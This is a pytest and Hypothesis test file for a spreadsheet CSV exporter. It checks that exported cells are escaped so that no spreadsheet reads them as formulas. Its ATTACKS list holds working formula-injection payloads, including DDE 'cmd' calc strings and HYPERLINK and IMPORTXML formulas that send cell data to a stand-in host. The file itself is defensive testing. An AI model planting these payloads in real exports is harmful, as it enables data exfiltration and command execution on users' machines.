"""hub/exports/spreadsheet.py: what is written is read back as it was, and no spreadsheet finds a formula in it."""

import csv
import io
import re
import zipfile
from decimal import Decimal
from itertools import product
from pathlib import Path

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from hub.exports.spreadsheet import cell, heading, row, text_cell
from hub.plugins.exporter import ExportColumn

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")  # noqa: RUF001 - the full-width forms are what is tested
ATTACKS = (
    "",
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.example?",CONCATENATE(A2:E2)),"//a")',
    '10+20+cmd|"/C calc"!A0',
    '2+5"),A1',
    "1,2",
    '1"',
    '1",=2',
    "1\r\n=2",
    "1\n=2",
    "1;=2",
    "31 6 12345678",
    "Müller",
    " 1",
)
PAYLOADS = [start + attack for start, attack in product(STARTS, ATTACKS)]
COLUMNS = (ExportColumn(("text",)), ExportColumn(("money", "amount"), is_number=True), ExportColumn(("money", "currency")))


def test_there_are_two_hundred_payloads() -> None:
    assert len(PAYLOADS) >= 200


def unguarded(text: str) -> str:
    """A text without the apostrophes that keep a formula from beginning within it."""
    return re.sub("(?<=[;\t\r\n])'(?=[=+@\uff1d\uff0b\uff0d\uff20-])", "", text)


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_text_that_would_be_a_formula_begins_with_an_apostrophe_and_loses_nothing(text: str) -> None:
    [[found]] = read(text_cell(text) + "\r\n")
    assert unguarded(found) == "'" + text


def test_no_spreadsheet_reads_a_formula(tmp_path: Path) -> None:
    """What a reader of CSV puts into a sheet is what openpyxl would have to take for a formula: it does so for the raw texts, and for none of ours."""
    assert formulas(tmp_path, [text.replace("\0", "") for text in PAYLOADS]) > 0
    written = heading(COLUMNS[:1]) + "".join(row(COLUMNS[:1], {"text": text}) for text in PAYLOADS)
    cells = [found for [found] in read(written)[1:]]
    assert len(cells) == len(PAYLOADS)
    assert formulas(tmp_path, [text.replace("\0", "") for text in cells]) == 0


def formulas(folder: Path, texts: list[str]) -> int:
    """In how many cells openpyxl finds a formula when it opens a workbook with these texts."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for text in texts:
        sheet.append([text.replace("\r", "").replace("\x0b", "")])
    path = folder / "judge.xlsx"
    book.save(path)
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").count(b"<f>")


@pytest.mark.parametrize("separator", [";", "\t"])
def test_where_a_spreadsheet_separates_otherwise_no_formula_begins_within_a_text(separator: str) -> None:
    written = row(COLUMNS[:1], {"text": f"Acme{separator}=cmd|' /C calc'!A0{separator}rest"})
    assert [found for cells in csv.reader([written], delimiter=separator) for found in cells if found[:1] in {"=", "+", "-", "@"}] == []


@pytest.mark.parametrize("number", ["-12.50", "0.00", "1000000000000.000", -3, 0, 7, "-0.01"])
def test_numbers_stay_numbers(number: object) -> None:
    found = cell(number, is_number=True)
    assert Decimal(found) == Decimal(str(number))
    assert found[0] in "-0123456789"


@pytest.mark.parametrize("text", ["-1+2", "=1", "+5", "1e5", "-", "NaN", "-1\n", "１"])  # noqa: RUF001
def test_what_is_no_plain_number_is_text_even_in_a_column_of_numbers(text: str) -> None:
    assert cell(text, is_number=True) == text_cell(text)


def test_an_amount_as_text_is_text() -> None:
    assert cell("-5", is_number=False) == "'-5"


def test_a_missing_value_and_an_empty_text_are_told_apart() -> None:
    assert row(COLUMNS, {"text": "", "money": None}) == '"",,\r\n'
    assert row(COLUMNS, {"text": None, "money": {"amount": "-1.50", "currency": "EUR"}}) == ",-1.50,EUR\r\n"


def test_lists_are_json_and_booleans_are_words() -> None:
    assert read(cell(["a", {"b": None}], is_number=False) + "," + cell(value=True, is_number=False) + "\r\n") == [['["a",{"b":null}]', "true"]]


def test_the_heading_has_the_paths() -> None:
    assert heading(COLUMNS) == "text,money.amount,money.currency\r\n"


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=3, max_size=3), min_size=1))
@example([['a"b', "c,d", "e\r\nf"], ["", " x ", "\n"]])
@example([[";=", ";'=", "=;'"]])
def test_a_reader_of_csv_finds_every_text_where_it_was(rows: list[list[str]]) -> None:
    columns = [ExportColumn((str(number),)) for number in range(3)]
    written = "".join(row(columns, {str(number): text for number, text in enumerate(texts)}) for texts in rows)
    expected = [["'" + text if text[:1] in STARTS and text else text for text in texts] for texts in rows]
    assert [list(map(unguarded, texts)) for texts in read(written)] == [list(map(unguarded, texts)) for texts in expected]


def read(text: str) -> list[list[str]]:
    """The rows as Python's reader finds them."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))
